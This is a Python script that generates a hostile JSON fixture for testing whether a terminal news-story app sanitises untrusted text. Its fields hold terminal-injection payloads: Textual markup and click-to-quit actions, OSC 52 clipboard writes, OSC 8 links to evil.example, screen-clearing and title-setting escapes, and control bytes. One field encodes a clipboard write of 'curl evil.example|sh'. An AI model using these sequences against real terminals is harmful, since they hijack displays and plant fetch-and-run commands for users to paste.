"""Write the fixture stories in this folder: ``python tests/data/make_fixtures.py``.

``hostile.json`` is a valid story whose every name, title and quote tries to break a
terminal app: Textual markup, click actions, unbalanced tags, OSC 52 / OSC 8 / CSI
escapes, NUL and C1 bytes, a right-to-left override, wide CJK and emoji, and a
10,000-character quote. The source text is embedded so the file stands alone.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

HOSTILE = {
    "markup": "[bold red]LOUD[/bold red] and [reverse]inverted[/]",
    "click": "[@click=app.quit]click to quit[/]",
    "unbalanced": "a [/] b [/bold] c [",
    "osc52": "clip \x1b]52;c;cHduZWQ=\x07 board",
    "osc8": "\x1b]8;;https://evil.example\x1b\\a link\x1b]8;;\x1b\\ here",
    "csi": "clear \x1b[2J\x1b[H screen \x1b[31mred",
    "nul": "nul \x00 byte and bell \x07",
    "c1": "c1 \x9b31m csi and \x85 next line",
    "rtl": "rtl \u202eevil.exe\u202c done",
    "wide": "日本語のテキスト 🇰🇷🇺🇸 ✊🏽 mixed 한국어",
    "title": "title \x1b]2;PWNED\x1b\\ bar",
    "dcs": "dcs \x1bPq#0;2;0;0;0\x1b\\ sixel",
    "bidi": "marks \u200f\u2066\u061c isolate",
}
PUBLISHER = "The Japan Times\x1b]2;PWNED\x1b\\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\"
"""The issue-8 payload: sets the window title and writes `curl evil.example|sh` to the clipboard."""


def hostile_story() -> dict[str, object]:
    paragraphs: list[str] = ["HOSTILE BYLINE [b]x[/b]"]
    quotes = []
    speakers = []
    for index, (key, text) in enumerate(HOSTILE.items()):
        speaker_id = f"s-{key}"
        speakers.append(
            {
                "id": speaker_id,
                "name": f"{text[:24]} ({key})",
                "kind": "person",
                "role": f"role {text[:12]}",
                "affiliation": "[@click=app.bell]Org[/] \x1b]52;c;QQ==\x07",
                "country": f"land {text[-8:]}",
                "aliases": [text[:10]],
            }
        )
        quotes.append(
            {
                "id": f"q-{key}",
                "speaker": speaker_id,
                "text": text,
                "kind": "direct",
                "cue": "said [i]loudly[/i]",
            }
        )
        paragraphs.append(f"Paragraph {index}: “{text}” said someone.")
    long_quote = ("All work and no play [b]makes[/b] a dull quote. " * 250)[:10_000]
    quotes.append(
        {"id": "q-long", "speaker": "s-markup", "text": long_quote, "kind": "direct", "cue": "said"}
    )
    paragraphs.append(f"“{long_quote}”")
    paragraphs.append("On [@click=app.quit]Monday[/] things happened.")
    source = "\n\n".join(paragraphs) + "\n"
    for quote in quotes:
        quote["start"] = source.index(quote["text"])
        quote["end"] = quote["start"] + len(quote["text"])
    when = "[@click=app.quit]Monday[/]"
    event_start = source.index(when)
    return {
        "schema_version": 1,
        "story": {
            "id": "hostile",
            "title": "[bold]Hostile[/] \x1b]0;pwned\x07 story [@click=app.quit]x[/] 日本",
            "publisher": PUBLISHER,
            "agencies": ["Wire \x1b]2;PWNED\x07", "[b]desk[/b]"],
            "url": "https://example.com/[hostile]",
            "published": "2020-01-08",
            "byline": "[b]byline[/b]",
        },
        "source": {
            "text": source,
            "sha256": hashlib.sha256(source.encode("utf-8")).hexdigest(),
            "regions": [
                {
                    "kind": "byline",
                    "start": 0,
                    "end": len(paragraphs[0]),
                    "note": "note \x1b]8;;x\x07",
                }
            ],
        },
        "speakers": speakers,
        "quotes": quotes,
        "events": [
            {
                "id": "e-monday",
                "title": "[@click=app.quit]Event[/] \x1b[2J title \u202eRTL",
                "summary": "[bold]summary[/] \x00 with \x9b bytes",
                "when": when,
                "start": event_start,
                "end": event_start + len(when),
                "date_start": "2020-01-06",
                "date_end": "2020-01-06",
                "precision": "day",
                "status": "before",
                "actors": ["s-click"],
                "quotes": ["q-click"],
            }
        ],
        "costs": {
            "currency": "USD",
            "figures": [
                {
                    "id": "f-1",
                    "label": "[@click=app.quit]Figure[/]",
                    "kind": "money",
                    "amount": 5,
                    "period": "per \x1b]2;PWNED\x07 year",
                    "unit": "USD",
                    "text": "Monday",
                    "start": event_start + 17,
                    "end": event_start + 23,
                }
            ],
            "categories": [
                {
                    "id": "c-1",
                    "name": "[/] category \x1b[5m",
                    "description": "desc \x1bP+q\x1b\\ \u202e",
                    "past": True,
                    "text": "things",
                    "start": source.index("things"),
                    "end": source.index("things") + 6,
                }
            ],
        },
    }


if __name__ == "__main__":
    story = hostile_story()
    path = HERE / "hostile.json"
    path.write_text(json.dumps(story, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    print(path)
